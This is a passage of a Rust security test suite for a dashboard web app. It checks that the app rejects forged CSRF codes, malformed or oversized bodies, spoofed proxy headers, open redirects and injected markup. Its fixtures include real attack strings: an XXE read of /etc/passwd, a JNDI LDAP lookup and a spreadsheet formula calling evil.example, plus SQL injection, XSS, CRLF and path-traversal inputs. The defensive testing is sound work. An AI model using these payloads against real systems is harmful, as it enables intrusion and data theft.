//! Somebody who does not use the dashboard as its pages do: forged forms, bodies too large or broken, ids of the wrong
//! kind, everything at once, headers that lie, and markup wherever words are taken. Whatever comes back is an answer with
//! all its headers: [`Person`] holds every exchange to that.

use std::io::Read as _;

use domain::language::Language;
use domain::reference::Reference;
use domain::request::Kind;
use flate2::read::GzDecoder;
use futures::future::join_all;
use phone::{Do, Script, Speech};
use serde_json::{Value, json};
use tests::hotline::{Code, order};
use tests::person::{Seen, totp};
use tests::{Hotline, Person, answers, eventually, in_dozens, planted};

use crate::rooms::{ROOMS, Shop, THINGS, form_id, random, random_code};

const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");

fn caller(n: u8) -> String {
    planted::caller(planted::HOSTILE, n)
}

/// Every route that takes something, with a tenant's things in its path.
async fn posts(shop: &mut Shop<'_>) -> Vec<(String, bool)> {
    let mut all = vec![];
    for (method, path, asks) in ROOMS {
        if *method == "POST" {
            all.push((shop.fill(path).await, asks.is_some()));
        }
    }
    all
}

fn is_for_mail_programs(target: &str) -> bool {
    target.starts_with("/dashboard/unsubscribe/")
}

#[tokio::test]
async fn no_form_is_taken_without_its_code_with_anothers_or_from_another_site() {
    let hotline = Hotline::open();
    let mut shop = Shop::open(&hotline, "hostile-forms", &caller(0)).await;
    let (mut other, ..) = Person::owner_of(&hotline, &format!("hostile-other-{}", random(8)), &[]).await;
    let csrf = shop.owner.csrf().await;
    let foreign = other.csrf().await;
    let mut again = Person::new(&hotline);
    again.sign_in(&shop.keys, 0).await;
    let of_another_session = again.csrf().await;
    assert!(csrf != foreign && csrf != of_another_session);
    let door = shop.owner.get("/dashboard/sign-in").await.form(&["csrf"]).value("csrf").unwrap().to_owned();
    let posts = posts(&mut shop).await;
    let before = shop.stored(&[&THINGS[..], &["audit"]].concat()).await;
    let other_case = csrf.to_uppercase();
    let half = &csrf[..csrf.len() / 2];
    let null = format!("{csrf}\0");
    // Mail programs end a mail without a code: the ticket in the address is all that it takes (RFC 8058).
    for (target, signed_in) in posts.iter().filter(|(target, _)| !is_for_mail_programs(target)) {
        let good = if *signed_in { &csrf } else { &door };
        let codes =
            ["", "x", half, &other_case, &null, &foreign, &of_another_session, if *signed_in { &door } else { &csrf }];
        for code in codes {
            let fields =
                [("csrf", code), ("id", &form_id()), ("note", "x"), ("email", "x@shop.example"), ("end", "others")];
            let body = form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
            let seen = shop.owner.once("POST", target, &[FORM], body.as_bytes()).await;
            assert_eq!(seen.status(), 403, "{target} with {code:?}: {}", seen.text());
            let headers = [("content-type", "application/json"), ("x-csrf", &code.replace('\0', ""))];
            if code != null {
                let seen = shop.owner.once("POST", target, &headers, b"{\"step\":\"begin\"}").await;
                assert_eq!(seen.status(), 403, "{target} as JSON with {code:?}: {}", seen.text());
            }
        }
        // The code in the address, or twice with the wrong one first, is no code.
        let twice = format!("csrf=x&csrf={good}");
        let seen = shop.owner.once("POST", target, &[FORM], twice.as_bytes()).await;
        assert_eq!(seen.status(), 403, "{target}: {}", seen.text());
        let seen = shop.owner.once("POST", &format!("{target}?csrf={good}"), &[FORM], b"id=x").await;
        assert_eq!(seen.status(), 403, "{target}: {}", seen.text());
        let body = format!("csrf={good}");
        let ours = shop.owner.origin();
        for lie in [
            ("origin", "https://evil.example"),
            ("origin", "null"),
            ("origin", &ours.replace("http://", "https://")),
            ("origin", &format!("{ours}.evil.example")),
            ("origin", &format!("{ours}/")),
            ("sec-fetch-site", "cross-site"),
            ("sec-fetch-site", "same-site"),
        ] {
            let seen = shop.owner.once("POST", target, &[FORM, lie], body.as_bytes()).await;
            assert_eq!(seen.status(), 403, "{target} with {lie:?}: {}", seen.text());
            let json = [("content-type", "application/json"), ("x-csrf", good.as_str()), lie];
            assert_eq!(shop.owner.once("POST", target, &json, b"{}").await.status(), 403, "{target} with {lie:?}");
        }
    }
    assert_eq!(shop.stored(&[&THINGS[..], &["audit"]].concat()).await, before);
    assert_eq!(again.get("/dashboard/account").await.status(), 200, "nobody has ended any session");
}

#[tokio::test]
async fn a_body_that_is_too_large_is_refused_as_such() {
    let hotline = Hotline::open();
    let mut shop = Shop::open(&hotline, "hostile-large", &caller(1)).await;
    let csrf = shop.owner.csrf().await;
    let posts = posts(&mut shop).await;
    let before = shop.stored(&THINGS).await;
    for (target, signed_in) in &posts {
        let most = match signed_in {
            _ if is_for_mail_programs(target) => 96 * 1024,
            true => 256 * 1024,
            false => 32 * 1024,
        };
        let body = format!("csrf={csrf}&note={}", "x".repeat(most));
        for kind in ["application/x-www-form-urlencoded", "application/json", "text/plain", ""] {
            let headers = [("content-type", kind), ("x-csrf", csrf.as_str())];
            let seen = shop.owner.once("POST", target, &headers, body.as_bytes()).await;
            assert_eq!(seen.status(), 413, "{target} {kind}: {}", seen.text());
        }
    }
    let large = vec![b'x'; 4_410_000];
    let fields = [("csrf", csrf.as_str()), ("id", &form_id())];
    for target in [format!("/dashboard/attach/{}", shop.reference), "/dashboard/settings".to_owned()] {
        let seen = shop.owner.post_multipart(&target, &fields, ("file", "large.txt", &large)).await;
        assert_eq!(seen.status(), 413, "{target}: {}", seen.text());
    }
    let seen = shop.owner.post_multipart("/dashboard/sign-in", &fields, ("file", "a.txt", &vec![b'x'; 40_000])).await;
    assert_eq!(seen.status(), 413, "{}", seen.text());
    // As many fields as nobody has, and a file that is a little too large for what the page promises.
    let many = format!("csrf={csrf}&{}", "a=b&".repeat(50_000));
    let seen = shop.owner.once("POST", "/dashboard/team", &[FORM], many.as_bytes()).await;
    assert_eq!(seen.status(), 422, "{}", seen.text());
    let target = format!("/dashboard/attach/{}", shop.reference);
    let seen = shop.owner.post_multipart(&target, &fields, ("file", "a.txt", &large[..4_000_001])).await;
    assert_eq!(seen.status(), 422, "{}", seen.text());
    assert_eq!(shop.stored(&THINGS).await, before);
}

/// Whoever has shown no password is sent to where one does, whatever else they send.
fn is_sent_to_the_door(target: &str, seen: &Seen) -> bool {
    target == "/dashboard/second-factor"
        && (seen.text() == r#"{"to":"/dashboard/sign-in"}"#
            || (seen.status(), seen.answer.header("location")) == (303, Some("/dashboard/sign-in")))
}

#[tokio::test]
async fn a_body_that_is_broken_gets_an_answer_and_changes_nothing() {
    let hotline = Hotline::open();
    let mut shop = Shop::open(&hotline, "hostile-broken", &caller(2)).await;
    let csrf = shop.owner.csrf().await;
    let door = shop.owner.get("/dashboard/sign-in").await.form(&["csrf"]).value("csrf").unwrap().to_owned();
    let mut posts = posts(&mut shop).await;
    posts.retain(|(target, _)| target != "/dashboard/sign-out");
    let before = shop.stored(&THINGS).await;
    for (target, signed_in) in &posts {
        let code = if *signed_in { &csrf } else { &door };
        let deep = format!("{}1{}", "[".repeat(9_000), "]".repeat(9_000));
        let jsons: Vec<Vec<u8>> = vec![
            b"".to_vec(),
            b"{".to_vec(),
            b"null".to_vec(),
            b"[]".to_vec(),
            b"{\"step\":\"finish\"}".to_vec(),
            b"{\"step\":\"finish\",\"state\":\"x\",\"credential\":{}}".to_vec(),
            b"{\"step\":\"finish\",\"state\":1,\"credential\":null}".to_vec(),
            b"{\"step\":\"\\u0000\"}".to_vec(),
            b"\xff\xfe{}".to_vec(),
            deep.into_bytes(),
        ];
        hotline.clear_client_tries().await;
        for body in jsons {
            let headers = [("content-type", "application/json"), ("x-csrf", code.as_str())];
            let seen = shop.owner.once("POST", target, &headers, &body).await;
            let shown = String::from_utf8_lossy(&body[..body.len().min(60)]).into_owned();
            if is_sent_to_the_door(target, &seen) {
                continue;
            }
            assert!((400..500).contains(&seen.status()), "{target} {shown}: {} {}", seen.status(), seen.text());
        }
        let with_code = |rest: &[u8]| [format!("csrf={code}&").as_bytes(), rest].concat();
        for body in [
            with_code(b"%"),
            with_code(b"%zz=%f"),
            with_code(b"=&&&===&"),
            with_code(b"id=%ff%fe%00&note=%c3%28&email=%00"),
            with_code(b"\xff\x00\xfe=\x80"),
            with_code(b"id[]=1&id[a]=2&__proto__=x"),
            with_code(b"version=99999999999999999999999&action=withdraw&how=%00"),
            with_code(b"version=-1&language=xx&hour=1e9&from=2026-02-30&to=-9999-01-01&month=0000-00"),
            with_code(b"from=9999-12-31&to=9999-12-31&behind=-1&year=99999999999&received=9999-12-31&id="),
        ] {
            let seen = shop.owner.once("POST", target, &[FORM], &body).await;
            let shown = String::from_utf8_lossy(&body).into_owned();
            if is_sent_to_the_door(target, &seen) {
                continue;
            }
            assert!((400..500).contains(&seen.status()), "{target} {shown}: {} {}", seen.status(), seen.text());
        }
        let part = |name: &str, value: &str| {
            format!("--b\r\ncontent-disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
        };
        let whole = part("csrf", code);
        for (kind, body) in [
            ("multipart/form-data", whole.clone()),
            ("multipart/form-data; boundary=", whole.clone()),
            ("multipart/form-data; boundary=other", whole.clone()),
            ("multipart/form-data; boundary=b", whole.clone()),
            ("multipart/form-data; boundary=b", format!("{whole}--b\r\ncontent-disposition: form-data")),
            ("multipart/form-data; boundary=b", format!("{whole}--b\r\n\r\nno name\r\n--b--\r\n")),
            ("multipart/form-data; boundary=b", format!("{whole}--b\r\nx: \u{0}\r\n\r\n\r\n--b--\r\n")),
            (
                "multipart/form-data; boundary=b",
                format!(
                    "{whole}--b\r\ncontent-disposition: form-data; name=\"file\"; filename=\"../../x\"\r\n\r\n\r\n--b--\r\n"
                ),
            ),
            ("text/plain", format!("csrf={code}")),
            ("application/xml", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>".to_owned()),
            ("", String::new()),
        ] {
            let seen = shop.owner.once("POST", target, &[("content-type", kind)], body.as_bytes()).await;
            if is_sent_to_the_door(target, &seen) {
                continue;
            }
            assert!((400..500).contains(&seen.status()), "{target} {kind} {body}: {} {}", seen.status(), seen.text());
            assert!(!seen.text().contains("root:"), "{target}");
        }
    }
    assert_eq!(shop.stored(&THINGS).await, before);
}

#[tokio::test]
#[expect(clippy::too_many_lines, reason = "one story, told once")]
async fn an_id_of_the_wrong_kind_is_nobodys() {
    let hotline = Hotline::open();
    let mut shop = Shop::open(&hotline, "hostile-ids", &caller(3)).await;
    let csrf = shop.owner.csrf().await;
    let before = shop.stored(&THINGS).await;
    let long = "9".repeat(6_000);
    let fullwidth: String = "１２３４５６７８９０１２".to_owned();
    let encoded = |text: &str| form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    let ids = [
        "%2e%2e",
        "..%2f..%2fsettings",
        "%2e%2e%2fsettings",
        "..%5c..%5csettings",
        "%00",
        "x%00y",
        "%0d%0aset-cookie:%20a=b",
        "%ff%fe",
        "%",
        "%zz",
        "0",
        "-1",
        "000000000000",
        "null",
        "undefined",
        "new%20",
        "*",
        "%27%20OR%20%271%27=%271",
        "%7B%22S%22:%22x%22%7D",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%3Cimg%20src=x%3E",
        "$%7Bjndi:ldap://evil.example%7D",
        "%7B%7B7*7%7D%7D",
        &long,
        &encoded(&fullwidth),
        &encoded("ñandú"),
        &encoded("\u{202e}321"),
        &encoded("👩‍👩‍👧"),
        &format!("{}%00", shop.reference),
        &format!("{}%0a", shop.reference),
        &format!("{}x", shop.reference),
        &format!("{}%23note%23", shop.reference),
        &format!("{}%23note%23", shop.tenant),
        &shop.tenant.clone(),
        &shop.user.clone(),
    ];
    for (method, path, _) in ROOMS {
        let Some((start, _)) = path.split_once('{') else { continue };
        hotline.clear_client_tries().await;
        for id in &ids {
            let target = format!("{start}{id}");
            let body =
                format!("csrf={csrf}&id={}&action=withdraw&version=1&note=x&how=x&do=text&language=en", form_id());
            let seen = match *method {
                "GET" => shop.owner.once("GET", &target, &[], &[]).await,
                _ => shop.owner.once("POST", &target, &[FORM], body.as_bytes()).await,
            };
            let shown = format!("{method} {target:.80}: {} {}", seen.status(), seen.text());
            // A door's form asks for its own code first, and a file of nothing is refused before anybody looks for whom.
            assert!(matches!(seen.status(), 400 | 403 | 404 | 413 | 414 | 422 | 431), "{shown}");
            assert!(!seen.text().contains("<script>alert") && !seen.text().contains("<img src"), "{shown}");
            assert!(seen.answer.headers("set-cookie").iter().all(|cookie| !cookie.starts_with("a=")), "{shown}");
        }
    }
    for target in [
        "/dashboard/../dashboard/settings",
        "/dashboard//settings",
        "/dashboard/settings/",
        "/dashboard/settings/x",
        "/dashboard/%73ettings%00",
        "/DASHBOARD/settings",
        "//dashboard/settings",
        "/dashboard/request",
        "/dashboard/request/",
        "/dashboard/asset/../settings",
        "/dashboard/asset/style.css",
        "/dashboard/asset/..%2f..%2fCargo.toml",
    ] {
        let seen = Person::new(&hotline).once("GET", target, &[], &[]).await;
        assert!(matches!(seen.status(), 400 | 303 | 404), "{target}: {} {}", seen.status(), seen.text());
    }
    let queries = [
        "after=%00",
        "after=AAAA",
        "year=-1",
        "year=999999999999",
        "from=x&to=y",
        "format=xml",
        "month=%ff",
        "lang=%3Cscript%3E",
        "next=%00",
        "done=%3Cscript%3Ealert(1)%3C/script%3E",
        "language=%3Cscript%3Ealert(1)",
        "kind=%3Cscript%3Ealert(1)&state=x&code=%27&assignee=u-x&channel=*",
        "act=%3Cscript%3Ealert(1)&who=%3Cscript%3Ealert(1)&on=%3Cscript%3Ealert(1)%3C/script%3E",
        "scope=%3Cscript%3Ealert(1)&format=%3Cscript%3Ealert(1)",
        "upload=%3Cscript%3Ealert(1)",
        "saved=%3Cscript%3Ealert(1)",
    ];
    for (method, path, _) in ROOMS {
        if *method != "GET" {
            continue;
        }
        let target = shop.fill(path).await;
        for query in queries {
            let seen = shop.owner.once("GET", &format!("{target}?{query}"), &[], &[]).await;
            let shown = format!("{target}?{query}: {} {}", seen.status(), seen.text());
            assert!(matches!(seen.status(), 200 | 303 | 404 | 422), "{shown}");
            assert!(!seen.text().contains("<script>alert"), "{shown}");
        }
    }
    assert_eq!(shop.stored(&THINGS).await, before);
}

#[tokio::test]
async fn what_is_sent_many_times_at_once_happens_once() {
    let hotline = Hotline::open();
    let mut shop = Shop::open(&hotline, "hostile-repeats", &caller(4)).await;
    let session = shop.owner.cookie("__Host-session").unwrap().to_owned();
    let page = shop.page().await;
    let at_once = async |form: tests::person::Form, typed: Vec<(&str, &str)>| -> Vec<u16> {
        let sending = (0..6).map(async |_| {
            let mut person = Person::new(&hotline);
            person.hold("__Host-session", &session);
            person.send_form(&form, &typed).await
        });
        let mut statuses: Vec<u16> = join_all(sending).await.iter().map(Seen::status).collect();
        statuses.sort_unstable();
        statuses
    };
    let requests = async || {
        let all = hotline.cloud.scan(
            hotline.table("requests"),
            json!({
                "FilterExpression": "begins_with(pk, :tenant)",
                "ExpressionAttributeValues": { ":tenant": { "S": format!("{}#", shop.tenant) } },
            }),
        );
        let all: Vec<Value> = all.await;
        let notes = all.iter().filter(|item| item["sk"]["S"].as_str().unwrap().contains("#note#")).count();
        let files = all.iter().filter(|item| item["sk"]["S"].as_str().unwrap().contains("#file#")).count();
        (all.len() - notes - files, notes, files)
    };
    let before = requests().await;
    let note = at_once(page.form(&["id", "note"]), vec![("note", "Once.")]).await;
    assert!(note.iter().all(|status| matches!(status, 200 | 409)) && note.contains(&200), "{note:?}");
    assert_eq!(requests().await, (before.0, before.1 + 1, before.2));

    let mut person = Person::new(&hotline);
    person.hold("__Host-session", &session);
    let form = person.get("/dashboard/new-request").await.form(&["id", "received"]);
    let code = shop.code.clone();
    let typed = vec![("kind", "delete"), ("channel", "mail"), ("code", code.as_str()), ("name", "Nora")];
    let entered = at_once(form, typed).await;
    assert!(entered.iter().all(|status| matches!(status, 200 | 409)) && entered.contains(&200), "{entered:?}");
    assert_eq!(requests().await, (before.0 + 1, before.1 + 1, before.2));

    let page = person.get(&format!("/dashboard/request/{}", shop.reference)).await;
    let complete = page.forms().into_iter().find(|form| form.value("action") == Some("complete")).unwrap();
    let done = at_once(complete, vec![("done", "Corrected."), ("identity", "It matched.")]).await;
    assert_eq!(done, [200, 409, 409, 409, 409, 409]);
    let pk = format!("{}#{}", shop.tenant, &shop.reference[..2]);
    let item = hotline.cloud.item(hotline.table("requests"), &[("pk", &pk), ("sk", &shop.reference)]).await.unwrap();
    let completed = item["events"].as_array().unwrap().iter().filter(|event| event["action"] == "complete");
    assert_eq!(completed.count(), 1, "{item:#}");

    let email = format!("{}@shop.example", random(12));
    let invite = person.get("/dashboard/team").await.form(&["do", "email"]);
    let invited = at_once(invite, vec![("name", "Carla"), ("email", &email), ("role", "agent")]).await;
    assert_eq!(invited, [200, 422, 422, 422, 422, 422]);
    let code = random_code();
    let form = person.get("/dashboard/service-code/new").await.form(&["code", "name"]);
    let typed = vec![("code", code.as_str()), ("name", "Twice"), ("greetings.en", "Hello."), ("greetings.es", "Hola.")];
    assert_eq!(at_once(form, typed).await, [200, 422, 422, 422, 422, 422]);
}

#[tokio::test]
async fn of_fifty_codes_tried_a_dozen_at_once_at_most_ten_are_looked_at() {
    let hotline = Hotline::open();
    let slug = format!("hostile-codes-{}", random(8));
    let (_, keys, _) = Person::owner_of(&hotline, &slug, &[]).await;
    let mut person = Person::new(&hotline);
    let page = person.show_password(&keys.email, &keys.password).await;
    let form = page.form(&["by", "code"]);
    let (pending, visitor) =
        (person.cookie("__Host-pending").unwrap().to_owned(), person.cookie("__Host-visitor").unwrap().to_owned());
    let right = totp(&keys.totp_secret, 0);
    let wrong = if right == "123456" { "654321" } else { "123456" };
    hotline.clear_client_tries().await;
    let trying = (0..50).map(async |_| {
        let mut thief = Person::new(&hotline);
        thief.hold("__Host-pending", &pending);
        thief.hold("__Host-visitor", &visitor);
        thief.send_form(&form, &[("code", wrong)]).await
    });
    let seen = in_dozens(trying).await;
    let looked_at = seen.iter().filter(|seen| seen.status() == 422).count();
    assert!(looked_at <= 10, "{looked_at}");
    assert!(seen.iter().all(|seen| matches!(seen.status(), 422 | 429)));
    hotline.clear_client_tries().await;
    // Now the right one comes too late.
    let late = person.send_form(&form, &[("code", &right)]).await;
    assert_eq!(late.status(), 429, "{}", late.text());
}

#[tokio::test]
async fn another_method_or_a_header_that_names_one_does_nothing() {
    let hotline = Hotline::open();
    let mut shop = Shop::open(&hotline, "hostile-methods", &caller(5)).await;
    let csrf = shop.owner.csrf().await;
    let before = shop.stored(&THINGS).await;
    let overrides = [("x-http-method-override", "POST"), ("x-http-method", "DELETE"), ("x-method-override", "PUT")];
    for (method, path, asks) in ROOMS {
        let target = shop.fill(path).await;
        for other in ["PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "FOO"] {
            let seen = shop.owner.once(other, &target, &[FORM], format!("csrf={csrf}").as_bytes()).await;
            assert!((400..500).contains(&seen.status()), "{other} {target}: {}", seen.status());
        }
        if *method == "GET" {
            let body = format!("csrf={csrf}&action=withdraw&do=remove&end=others");
            let target = format!("{target}?_method=POST&{body}");
            let seen = shop.owner.once("GET", &target, &overrides, body.as_bytes()).await;
            assert!(matches!(seen.status(), 200 | 303 | 404), "{target}: {}", seen.status());
        } else if !ROOMS.iter().any(|(method, there, _)| *method == "GET" && there == path) {
            let seen = shop.owner.once("GET", &format!("{target}?csrf={csrf}"), &overrides, &[]).await;
            assert!(seen.is_gateways(), "{target}: {} {}", seen.status(), seen.text());
        }
        // A preflight is for pages of others: there are none.
        let preflight = [("origin", "https://evil.example"), ("access-control-request-method", "POST")];
        let seen = shop.owner.once("OPTIONS", &target, &preflight, &[]).await;
        assert!(seen.answer.header("access-control-allow-origin").is_none(), "{target} {asks:?}");
    }
    assert_eq!(shop.stored(&THINGS).await, before);
    assert_eq!(shop.owner.get("/dashboard/account").await.status(), 200);
}

/// Headers by which proxies say who asks and whom; here they come from whoever asks.
const LIES: [(&str, &str); 8] = [
    ("x-forwarded-for", "192.0.2.66"),
    ("x-forwarded-host", "evil.example"),
    ("x-forwarded-proto", "gopher"),
    ("x-host", "evil.example"),
    ("forwarded", "for=192.0.2.66;host=evil.example;proto=https"),
    ("x-original-url", "/dashboard/team"),
    ("x-real-ip", "192.0.2.66"),
    ("cf-connecting-ip", "192.0.2.66"),
];

#[tokio::test]
async fn what_proxies_claim_changes_no_link_no_redirect_and_no_entry_of_the_trail() {
    let hotline = Hotline::open();
    let mut shop = Shop::open(&hotline, "hostile-hosts", &caller(6)).await;
    let csrf = shop.owner.csrf().await;
    let origin = shop.owner.origin();
    let send = async |person: &mut Person<'_>, target: &str, fields: &[(&str, &str)]| {
        let body = form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
        let seen = person.once("POST", target, &[&[FORM][..], &LIES].concat(), body.as_bytes()).await;
        assert!(!seen.text().contains("evil.example"), "{target}: {}", seen.text());
        seen
    };
    let email = format!("{}@shop.example", random(12));
    let fields = [
        ("csrf", csrf.as_str()),
        ("do", "invite"),
        ("name", "Carla"),
        ("email", &email),
        ("role", "viewer"),
        ("language", "en"),
    ];
    let invited = send(&mut shop.owner, "/dashboard/team", &fields).await;
    assert_eq!(invited.status(), 303, "{}", invited.text());
    hotline.clear_client_tries().await;
    let mut nobody = Person::new(&hotline);
    let door = nobody.get("/dashboard/reset").await.form(&["csrf"]).value("csrf").unwrap().to_owned();
    let owner = shop.keys.email.clone();
    send(&mut nobody, "/dashboard/reset", &[("csrf", &door), ("email", &owner)]).await;
    for (to, path) in [(&email, "/dashboard/invitation/"), (&owner, "/dashboard/new-password/")] {
        let (_, text) = eventually("a mail with a link", async || {
            hotline.mails(to).await.into_iter().rfind(|(_, text)| text.contains(path))
        })
        .await;
        assert!(text.contains(&format!("{origin}{path}")) && !text.contains("evil.example"), "{text}");
        assert!(!text.contains("192.0.2.66"), "{text}");
    }
    for (method, path, _) in ROOMS {
        if *method == "GET" {
            let target = shop.fill(path).await;
            for person in [&mut shop.owner, &mut nobody] {
                let seen = person.once("GET", &target, &LIES, &[]).await;
                let location = seen.answer.header("location").unwrap_or_default();
                let binary =
                    target.contains("/attachment/") || target.contains("/record") || target.contains("/asset/");
                assert!(!location.contains("evil.example"), "{target}: {location}");
                assert!(binary || !seen.text().contains("evil.example"), "{target}: {}", seen.text());
            }
        }
    }
    let trail = shop.owner.get("/dashboard/audit").await.text();
    assert!(trail.contains("127.0.0.1") && !trail.contains("192.0.2.66"), "{trail}");
    let sessions = shop.owner.get("/dashboard/sessions").await.text();
    assert!(sessions.contains("127.0.0.1") && !sessions.contains("192.0.2.66"), "{sessions}");
    // Nor does another address buy anybody more tries.
    let page = nobody.get("/dashboard/sign-in").await.form(&["email", "password"]);
    let email = format!("{}@shop.example", random(12));
    let mut last = 0;
    for n in 0..11 {
        hotline.clear_client_tries().await;
        let address = format!("192.0.2.{n}");
        let body = form_urlencoded::Serializer::new(String::new())
            .extend_pairs([
                ("csrf", page.value("csrf").unwrap()),
                ("email", &email),
                ("password", "none of these words"),
            ])
            .finish();
        let headers = [FORM, ("x-forwarded-for", address.as_str())];
        last = nobody.once("POST", "/dashboard/sign-in", &headers, body.as_bytes()).await.status();
    }
    assert_eq!(last, 429);
}

#[tokio::test]
async fn where_to_go_next_is_a_page_of_ours_and_no_header() {
    let hotline = Hotline::open();
    let mut shop = Shop::open(&hotline, "hostile-next", &caller(7)).await;
    let tricks = [
        "/dashboard/overview\r\nSet-Cookie: stolen=1",
        "/dashboard/overview\nLocation: https://evil.example",
        "/dashboard/overview\u{0}",
        "/dashboard/\u{560a}\u{560d}Set-Cookie:stolen=1",
        "https://evil.example/dashboard/",
        "//evil.example/dashboard/",
        "/\\evil.example",
        "/dashboard/\\\\evil.example",
        "/dashboard//evil.example",
        "javascript:alert(1)//dashboard/",
        "data:text/html,x",
        " /dashboard/overview",
        "\t//evil.example",
        "dashboard/overview",
        "/dashboard@evil.example",
        "/dashboardevil",
    ];
    let csrf = shop.owner.csrf().await;
    for next in tricks {
        let query = form_urlencoded::Serializer::new(String::new()).append_pair("next", next).finish();
        for path in ["/dashboard/sign-in", "/dashboard/second-factor", "/dashboard/confirm", "/dashboard/factors"] {
            for person in [&mut Person::new(&hotline), &mut shop.owner] {
                let seen = person.once("GET", &format!("{path}?{query}"), &[], &[]).await;
                let shown = format!("{path} {next:?}: {} {}", seen.status(), seen.text());
                assert!(matches!(seen.status(), 200 | 303), "{shown}");
                assert!(!seen.text().contains("evil") && !seen.text().contains("javascript:"), "{shown}");
                assert!(seen.answer.headers("set-cookie").iter().all(|cookie| !cookie.contains("stolen")), "{shown}");
                assert!(seen.answer.headers("location").len() <= 1, "{shown}");
            }
        }
    }
    // The last step of confirming goes nowhere else either.
    let code = totp(&shop.keys.totp_secret, 0);
    let fields = [
        ("csrf", csrf.as_str()),
        ("next", tricks[0]),
        ("password", shop.keys.password.as_str()),
        ("code", code.as_str()),
    ];
    let body = form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
    let seen = shop.owner.once("POST", "/dashboard/confirm", &[FORM], body.as_bytes()).await;
    assert_eq!((seen.status(), seen.answer.header("location")), (303, Some("/dashboard/overview")), "{}", seen.text());
    // The confirmed session goes on under another secret; nothing else is given.
    let cookies = seen.answer.headers("set-cookie");
    assert!(cookies.iter().all(|cookie| cookie.starts_with("__Host-")), "{cookies:?}");
}

/// What would run if any page took it for markup; the second begins a formula in a spreadsheet.
const MARKUP: &str = "\"'><script>alert(1)</script><img src=x onerror=alert(2)>";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example\")<script>alert(1)</script>";

/// That a page shows what was typed as text, if it shows it.
fn is_text(seen: &Seen) {
    let text = seen.text();
    for live in ["<script>alert", "<img src=x", "<script>alert(1)"] {
        if let Some(at) = text.find(live) {
            let (from, to) = (text.floor_char_boundary(at.saturating_sub(300)), text.floor_char_boundary(at + 100));
            panic!("{} runs what was typed: {}", seen.target, &text[from..to]);
        }
    }
}

#[tokio::test]
#[expect(clippy::too_many_lines, reason = "one story, told once")]
async fn markup_in_every_field_of_every_page_is_text_wherever_it_is_shown() {
    let hotline = Hotline::open();
    let slug = format!("hostile-markup-{}", random(8));
    let email = format!("{slug}@shop.example");
    let code = random_code();
    let name = format!("Shop {MARKUP}");
    let mut wanted = order(&slug, &[Code::new(&code, &name)], &[]);
    wanted["tenant"]["profile"]["name"] = json!(name);
    wanted["tenant"]["owner"] = json!({ "email": email, "name": "Olga Owner", "language": "en" });
    let done = hotline.provision(&wanted).await.unwrap_or_else(|why| panic!("{why}"));
    let invitation = done["invitation"].as_str().unwrap().to_owned();
    let path = &invitation[invitation.find("/dashboard/").unwrap()..];
    is_text(&Person::new(&hotline).get(path).await);
    let mut owner = Person::new(&hotline);
    owner.accept(&invitation, &email).await;
    let tenant = done["tenant"].as_str().unwrap().to_owned();

    // Spoken and written down by a machine, heard back by nobody.
    let say = |words: &str| Do::Speak(Speech::of(&planted::words(words)).then_key('#'));
    let keys = |keys: &str| Do::press(keys);
    let mut script = vec![keys("1"), keys(&format!("{code}#"))];
    script.extend(answers::kind(Kind::Correct));
    script.extend([keys("1"), say(MARKUP), keys("1"), say(FORMULA), keys("1"), keys("1")]);
    let call = hotline.call(&caller(8), &mut Script::new(script)).await;
    assert!(call.heard(&format!("Welcome to {name}.")), "the greeting is spoken as it is written: {call}");
    let reference = call.reference_number().unwrap_or_else(|| panic!("{call}"));
    for recording in &call.recordings {
        hotline.recording(&tenant, &call.call_sid, &recording.sid, "transcript").await;
    }

    // Every form with words in it.
    let page = owner.get("/dashboard/account").await;
    owner.submit(&page, &["name", "hour"], &[("name", &format!("Olga {MARKUP}"))]).await;
    let request = format!("/dashboard/request/{reference}");
    let page = owner.get(&request).await;
    let seen = owner.submit(&page, &["id", "note"], &[("note", &format!("{MARKUP}\n</textarea>{FORMULA}"))]).await;
    is_text(&seen);
    let attach = page.forms().into_iter().find(|form| form.action.contains("/attach/")).unwrap();
    let fields = ["csrf", "id"].map(|name| (name, attach.value(name).unwrap().to_owned()));
    let fields = [(fields[0].0, fields[0].1.as_str()), (fields[1].0, fields[1].1.as_str())];
    let file = ("file", "<img src=x onerror=alert(2)>.txt", b"<script>alert(1)</script>".as_slice());
    let kept = owner.post_multipart(&attach.action, &fields, file).await;
    assert_eq!(kept.status(), 200, "{}", kept.text());
    is_text(&kept);
    let start =
        kept.text().find("/dashboard/attachment/").map(|at| kept.text()[at..].split('"').next().unwrap().to_owned());
    let download = owner.get(&start.unwrap()).await;
    assert_eq!(download.status(), 200);
    assert!(download.answer.header("content-disposition").unwrap().starts_with("attachment;"));
    assert!(!download.answer.header("content-type").unwrap().contains("html"));

    let entering = owner.get("/dashboard/new-request").await.form(&["id", "received"]);
    let typed = [
        ("kind", "delete"),
        ("channel", "mail"),
        ("code", code.as_str()),
        ("name", FORMULA),
        ("details", MARKUP),
        ("email", "x@shop.example"),
    ];
    let entered = owner.send_form(&entering, &typed).await;
    assert_eq!(entered.status(), 200, "{}", entered.text());
    is_text(&entered);
    let letter = entered.path().rsplit('/').next().unwrap().to_owned();
    for (action, typed) in [
        ("verify", vec![("asked", MARKUP)]),
        ("extend", vec![("reason", MARKUP)]),
        ("review", vec![("identity", MARKUP), ("why", MARKUP)]),
        ("deny", vec![("ground", "not-verified"), ("explanation", FORMULA), ("offered", MARKUP)]),
        ("reopen", vec![("why", MARKUP)]),
        ("complete", vec![("done", MARKUP), ("identity", MARKUP)]),
    ] {
        let page = owner.get(&format!("/dashboard/request/{letter}")).await;
        is_text(&page);
        let form = page.forms().into_iter().find(|form| form.value("action") == Some(action));
        let form = form.unwrap_or_else(|| panic!("no {action}: {}", page.text()));
        // First the page that comes back for what is wrong, or for what somebody else did meanwhile.
        is_text(&owner.send_form(&form, &[&typed[..], &[("version", "0")]].concat()).await);
        let seen = owner.send_form(&form, &typed).await;
        assert_eq!(seen.status(), 200, "{action}: {}", seen.text());
        is_text(&seen);
    }
    let page = owner.get("/dashboard/team").await;
    let colleague = format!("{}@shop.example", random(12));
